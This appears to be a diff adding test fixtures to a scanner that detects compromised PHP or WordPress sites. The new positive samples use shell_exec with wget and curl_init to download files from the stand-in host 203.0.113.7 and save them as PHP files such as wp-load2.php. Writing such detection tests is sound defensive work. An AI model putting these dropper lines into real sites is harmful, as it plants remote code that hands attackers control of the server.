@@ -190,6 +190,16 @@ REMOTE_TO_PHP_NEAR = (
     b"<?php\nfile_put_contents($cache . '/feed.xml', file_get_contents('https://example.org/feed'));\n"
 )
 
+REMOTE_TO_PHP_WGET = b"<?php\nshell_exec('wget -q http://203.0.113.7/s.txt -O ../wp-load2.php');\n"
+REMOTE_TO_PHP_CURLFILE = (
+    b"<?php\n$fp = fopen(__DIR__ . '/cache.php', 'w');\n$ch = curl_init();\n"
+    b"curl_setopt($ch, CURLOPT_URL, 'http://203.0.113.7/p.txt');\n"
+    b"curl_setopt($ch, CURLOPT_FILE, $fp);\ncurl_exec($ch);\n"
+)
+REMOTE_TO_PHP_WGET_NEAR = (
+    b"<?php\nshell_exec('wget -q https://example.org/dump.sql.gz -O /var/backups/d.gz');\n"
+)
+
 REMOTE_INCLUDE = b"<?php\ninclude 'http://203.0.113.7/x.txt';\n"
 REMOTE_INCLUDE_NEAR = b"<?php\ninclude __DIR__ . '/http-client.php';\n// see https://example.org/doc\n"
 
@@ -302,6 +312,9 @@ CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile", REMOTE_TO_PHP, True),
     ("SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile", REMOTE_TO_PHP_COPY, True),
     ("SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile", REMOTE_TO_PHP_NEAR, False),
+    ("SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile", REMOTE_TO_PHP_WGET, True),
+    ("SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile", REMOTE_TO_PHP_CURLFILE, True),
+    ("SPAMGEAR_TOOLKIT_RemoteCodeToPhpFile", REMOTE_TO_PHP_WGET_NEAR, False),
     ("SPAMGEAR_TOOLKIT_RemoteInclude", REMOTE_INCLUDE, True),
     ("SPAMGEAR_TOOLKIT_RemoteInclude", REMOTE_INCLUDE_NEAR, False),
     ("SPAMGEAR_TOOLKIT_WpHiddenAdmin", WP_HIDE, True),
